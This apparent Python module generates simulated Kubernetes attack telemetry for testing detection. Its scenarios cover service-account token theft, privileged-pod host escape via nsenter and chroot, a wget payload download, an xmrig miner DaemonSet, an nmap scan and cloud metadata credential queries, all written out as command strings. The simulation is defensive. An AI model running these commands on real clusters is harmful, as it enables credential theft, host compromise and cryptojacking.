"""Attacks that cross layers: API calls, processes (Falco, Tetragon) and network flows (Hubble)."""

from __future__ import annotations

from keelwatch.simulate import manifests
from keelwatch.simulate.api_calls import (
    ADMIN_REASON,
    DEVELOPER_REASON,
    caller,
    ci_deployer,
    controller,
    created,
    exec_into,
    kubectl,
)
from keelwatch.simulate.cluster import KUBECTL_AGENT, Workload, service_account
from keelwatch.simulate.records import (
    CLOUD_METADATA,
    PRIVILEGED_CONTAINER,
    STRATUM_MINER,
    falco_process_fields,
    rbac_reason,
)
from keelwatch.simulate.scenarios import Stage, scenario
from keelwatch.simulate.scenarios.steps import egress, terminal_shell

TOKEN_PATH = "/var/run/secrets/kubernetes.io/serviceaccount/token"  # noqa: S105 - a path


@scenario(
    "sa-token-theft",
    "Service-account token read in a pod and used from outside",
    ("T1528", "T1552.007", "T1078"),
    ("runtime", "network", "audit"),
)
def token_theft(stage: Stage) -> None:
    """Through an RCE in a web app the token file is read and sent out; the token is then used
    against the API server from a public address (same pod-bound credential)."""
    pod = stage.pod("http")
    ip = stage.public_ip()
    stage.exec(
        0,
        pod,
        binary="/bin/cat",
        arguments=TOKEN_PATH,
        parent_binary="/bin/sh",
        parent_arguments=f'-c "cat {TOKEN_PATH}"',
        uid=1000,
        cwd="/app",
    )
    egress(stage, 1.2, pod, ip, 443)
    identity = pod.sa_identity(stage.ids)
    requests = (
        ("create", "selfsubjectrulesreviews", None, "authorization.k8s.io", 201),
        ("list", "secrets", pod.namespace, "", 200),
        ("list", "pods", None, "", 403),
        ("get", "configmaps", pod.namespace, "", 200),
    )
    thief = caller(
        identity,
        ip,
        "python-requests/2.31.0",
        rbac_reason(
            f"{pod.workload}-reader",
            "view",
            f'ServiceAccount "{pod.service_account}/{pod.namespace}"',
            cluster=False,
        ),
    )
    for step, (verb, resource, namespace, group, code) in enumerate(requests):
        stage.audit(
            120 + step * 4,
            verb=verb,
            resource=resource,
            namespace=namespace,
            group=group,
            code=code,
            name="app-config" if verb == "get" else None,
            **thief,
        )


@scenario(
    "privileged-pod-host-escape",
    "Privileged pod with the host filesystem, then nsenter/chroot",
    ("T1611", "T1610"),
    ("audit", "runtime"),
)
def host_escape(stage: Stage) -> None:
    """A privileged, hostPID pod mounting / is created; its shell enters the host's namespaces."""
    human = stage.developer()
    namespace = stage.app().namespace
    tools = Workload(
        "debug-tools", namespace, "Pod", "debug", "docker.io/library/alpine:3.20", 0, "default"
    )
    pod = stage.new_pod(tools, name=f"debug-tools-{stage.ids.suffix(5)}")
    volumes = [("host-root", "/", "/host")]
    container = manifests.container(
        "debug",
        tools.image,
        command=["sleep", "infinity"],
        privileged=True,
        mounts=volumes,
        hardened=False,
    )
    body = manifests.pod(
        pod.name,
        namespace,
        manifests.pod_spec(
            [container], host_pid=True, host_network=True, volumes=volumes, restart="Never"
        ),
    )
    developer = kubectl(human, DEVELOPER_REASON)
    stage.audit(0, **created("pods", body), **developer)
    fields = falco_process_fields(
        pod, command="sleep infinity", exe="/bin/sleep", parent="containerd-shim", pid=1
    )
    fields["container.privileged"] = True
    stage.falco(6, PRIVILEGED_CONTAINER, pod, fields)
    stage.audit(20, **exec_into(pod, "sh", container="debug"), **developer)
    stage.exec(21, pod, binary="/bin/sh", arguments="", parent_binary="/usr/bin/runc")
    stage.exec(
        30,
        pod,
        binary="/usr/bin/nsenter",
        arguments="-t 1 -m -u -i -n -p -- bash",
        parent_binary="/bin/sh",
    )
    stage.exec(
        41, pod, binary="/usr/sbin/chroot", arguments="/host /bin/bash", parent_binary="/bin/sh"
    )


@scenario(
    "exec-shell-egress",
    "Exec into a pod, interactive shell, egress to a new destination",
    ("T1609", "T1059.004", "T1041"),
    ("audit", "runtime", "network"),
)
def exec_shell_egress(stage: Stage) -> None:
    """kubectl exec with a TTY, a shell in the container, then a download from an unseen IP."""
    human = stage.developer()
    pod = stage.pod("http")
    ip = stage.public_ip()
    stage.audit(0, **exec_into(pod, "%2Fbin%2Fbash"), **kubectl(human, DEVELOPER_REASON))
    terminal_shell(stage, 1, pod, "/bin/bash")
    stage.exec(
        25,
        pod,
        binary="/usr/bin/wget",
        arguments=f"-qO /tmp/.x http://{ip}:8000/x",
        parent_binary="/bin/bash",
    )
    egress(stage, 25.3, pod, ip, 8000)


@scenario(
    "cryptominer-daemonset",
    "Crypto-miner DaemonSet with pool traffic",
    ("T1496", "T1610", "T1204.003"),
    ("audit", "runtime", "network"),
)
def cryptominer(stage: Stage) -> None:
    """A DaemonSet runs xmrig on every node; the miners connect to a pool's stratum port."""
    human = stage.admin()
    ip = stage.public_ip()
    image = "docker.io/xmrig/xmrig:6.21.0"
    args = ["-o", f"stratum+tcp://{ip}:3333", "-u", "44AFFq5kSiGBoZ", "--donate-level", "1"]
    spec = manifests.pod_spec(
        [manifests.container("node-agent", image, command=["xmrig", *args], hardened=False)]
    )
    body = manifests.workload("DaemonSet", "node-agent", "kube-system", spec)
    stage.audit(
        0,
        **created("daemonsets", body),
        **caller(human.identity, stage.public_ip(), KUBECTL_AGENT, ADMIN_REASON),
    )
    miner = Workload("node-agent", "kube-system", "DaemonSet", "miner", image, 0, "default")
    for number, node in enumerate(stage.cluster.workers[:3]):
        pod = stage.new_pod(miner, node)
        at = 8 + number * 3
        pod_body = manifests.pod(
            None, "kube-system", spec, {"app": "node-agent"}, generate_name="node-agent-"
        )
        daemon_sets = service_account("kube-system", "daemon-set-controller", stage.ids)
        stage.audit(at - 4, **created("pods", pod_body), **controller(daemon_sets, rbac=True))
        started = stage.exec(
            at,
            pod,
            binary="/xmrig/xmrig",
            arguments=" ".join(args),
            parent_binary="/usr/bin/containerd-shim-runc-v2",
        )
        stage.connect(at + 0.5, started, source=(pod.ip, stage.port()), destination=(ip, 3333))
        egress(stage, at + 0.6, pod, ip, 3333, ["pool.minexmr.example"])
        fields = falco_process_fields(
            pod,
            command=f"xmrig {' '.join(args)}",
            exe="/xmrig/xmrig",
            parent="containerd-shim",
            pid=1,
            connection={"fd.sip": ip, "fd.sport": 3333, "fd.l4proto": "tcp", "fd.type": "ipv4"},
        )
        stage.falco(at + 1, STRATUM_MINER, pod, fields)


@scenario(
    "unknown-registry-image",
    "Pod from an unknown registry running a tool",
    ("T1610", "T1204.003"),
    ("audit", "runtime"),
)
def unknown_registry(stage: Stage) -> None:
    """A deployer creates a pod whose image comes from a registry the cluster never pulls from."""
    identity = stage.cluster.ci_deployer
    namespace = stage.app().namespace
    image = "ghcr.io/x0rg/netshoot-plus:latest"
    tools = Workload("netcheck", namespace, "Pod", "debug", image, 0, "default")
    pod = stage.new_pod(tools, name=f"netcheck-{stage.ids.suffix(5)}")
    spec = manifests.pod_spec(
        [manifests.container("netcheck", image, command=["/bin/sh", "-c", "sleep 3600"])]
    )
    stage.audit(
        0, **created("pods", manifests.pod(pod.name, namespace, spec)), **ci_deployer(identity)
    )
    stage.exec(
        12,
        pod,
        binary="/usr/bin/nmap",
        arguments=f"-sT -p 22,443,6443,10250 {pod.node.pod_prefix}0/24",
        parent_binary="/bin/sh",
    )


@scenario(
    "cloud-metadata-access",
    "Cloud instance metadata queried from a container",
    ("T1552.005",),
    ("runtime", "network"),
)
def metadata_access(stage: Stage) -> None:
    """A web pod asks the instance metadata service for the node role's credentials."""
    pod = stage.pod("http")
    url = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
    stage.exec(
        0,
        pod,
        binary="/usr/bin/curl",
        arguments=f"-s {url}",
        parent_binary="/bin/sh",
        parent_arguments=f'-c "curl -s {url}"',
        uid=1000,
        cwd="/app",
    )
    connection = {
        "fd.sip": "169.254.169.254",
        "fd.sport": 80,
        "fd.type": "ipv4",
        "fd.l4proto": "tcp",
        "fd.cip": pod.ip,
    }
    fields = falco_process_fields(
        pod,
        command=f"curl -s {url}",
        exe="/usr/bin/curl",
        parent="sh",
        pid=stage.rng.randrange(100, 9000),
        user="app",
        uid=1000,
        connection=connection,
    )
    stage.falco(0.1, CLOUD_METADATA, pod, fields)
    egress(stage, 0.1, pod, "169.254.169.254", 80)
